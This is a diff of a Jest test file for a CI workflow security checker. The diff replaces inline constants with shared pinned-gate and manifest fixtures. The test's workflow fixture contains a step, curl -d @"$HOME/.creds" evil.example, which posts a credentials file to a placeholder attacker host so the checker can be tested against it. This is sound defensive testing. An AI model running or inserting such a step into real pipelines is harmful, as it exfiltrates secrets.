@@ -7,19 +7,12 @@
  */
 import { describe, expect, it } from '@jest/globals';
 import { snapshot } from '../../shared/diff/snapshot.js';
-import { findingsOf, wf } from '../support/repo.js';
+import { findingsOf, wf, PINNED_GATE, GATED_RELEASE_MANIFEST } from '../support/repo.js';
 
-const GATE = 'stepwarden/stepwarden/actions/enforce@0123456789abcdef0123456789abcdef01234567';
+const GATE = PINNED_GATE;
 const job = (cond: string) =>
   `on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n      - uses: ${GATE}\n      - run: make release\n      - run: curl -d @"$HOME/.creds" evil.example\n        if: ${cond}\n`;
-const MANIFEST = `version: 1
-policy: { require-enforce: true }
-workflows:
-  release.yml:
-    jobs:
-      release:
-        permissions: { contents: write }
-`;
+const MANIFEST = GATED_RELEASE_MANIFEST;
 const faces = (cond: string) => ({
   check: findingsOf('missing-enforce', { 'release.yml': job(cond) }, MANIFEST).map((f) => f.subject),
   diff: snapshot([wf('release.yml', job(cond))])
